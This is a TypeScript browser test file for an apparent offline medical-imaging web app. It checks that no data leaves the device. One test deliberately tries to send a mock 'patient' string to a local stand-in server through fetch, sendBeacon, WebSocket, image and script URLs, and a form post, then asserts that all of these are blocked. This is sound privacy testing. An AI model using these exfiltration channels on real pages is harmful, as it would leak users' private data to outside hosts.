import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

import { expect, it } from 'vitest';

import { visit } from './browser.js';
import { CHEST, chestGz } from './scans.js';
import { curve, drop, openSample, openChest, runBones } from './steps.js';
import { onSite } from './suite.js';

onSite('nothing leaves', true, (stand) => {
  it('asks the network for nothing once the page is there', async () => {
    const { page, leave } = await visit(stand());
    await page.getByText(/^\d+ threads?$/).waitFor();
    await page.waitForLoadState('networkidle');
    const { site } = stand();
    const afterLoad = site.requests.length;
    await openSample(page);
    await runBones(page);
    await drop(page, [{ name: CHEST.name, bytes: await chestGz() }]);
    await page.getByRole('banner').getByText(CHEST.name).waitFor();
    await runBones(page);
    await curve(page).press('ArrowRight');
    const saved = page.waitForEvent('download');
    await page.getByRole('button', { name: /^Download mask/ }).click();
    await saved;
    expect(site.requests.slice(afterLoad)).toEqual([]);
    expect(site.requests.filter((request) => !request.startsWith('GET '))).toEqual([]);
    await page.getByText('0 bytes have left this device').waitFor();
    await leave();
  });

  it('the browser refuses every way out, and the page says so', async () => {
    const heard: string[] = [];
    const elsewhere = createServer((request, response) => {
      heard.push(`${request.method} ${request.url}`);
      response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end();
    });
    await new Promise<void>((ready) => elsewhere.listen(0, '127.0.0.1', ready));
    const { port } = elsewhere.address() as AddressInfo;
    const { page, complaints, leave } = await visit(stand());
    await openChest(page);
    const attempts = await page.evaluate(async (host) => {
      const patient = 'x'.repeat(1000);
      const refused: string[] = [];
      await fetch(`http://${host}/fetch`, { method: 'POST', body: patient }).catch(() =>
        refused.push('fetch'),
      );
      navigator.sendBeacon(`http://${host}/beacon`, patient);
      try {
        const socket = new WebSocket(`ws://${host}/socket`);
        await new Promise((ended) => socket.addEventListener('error', ended));
        refused.push('socket');
      } catch {
        refused.push('socket');
      }
      const image = new Image();
      image.src = `http://${host}/image?${patient}`;
      await new Promise((ended) => image.addEventListener('error', ended));
      refused.push('image');
      const script = document.createElement('script');
      script.src = `http://${host}/script.js`;
      document.head.append(script);
      await new Promise((ended) => script.addEventListener('error', ended));
      refused.push('script');
      const form = document.createElement('form');
      form.method = 'post';
      // Into a frame of its own, so that the page is not seen as going away.
      const frame = document.createElement('iframe');
      frame.name = 'elsewhere';
      form.target = frame.name;
      form.action = `http://${host}/form`;
      document.body.append(frame, form);
      form.submit();
      return refused;
    }, `127.0.0.1:${port}`);
    expect(attempts).toEqual(['fetch', 'socket', 'image', 'script']);
    await page.getByRole('button', { name: '0 bytes have left this device' }).click();
    const blocked = page
      .getByText('Attempts the browser blocked')
      .locator('xpath=following::dd[1]');
    await expect.poll(async () => Number(await blocked.innerText())).toBeGreaterThanOrEqual(6);
    const contacted = page.getByText('Requests to other sites').locator('xpath=following::dd[1]');
    expect(await contacted.innerText()).toBe('0');
    expect(heard).toEqual([]);
    complaints.length = 0; // The browser complained about each attempt, as it should.
    await leave();
    await new Promise((stopped) => elsewhere.close(stopped));
  });
});
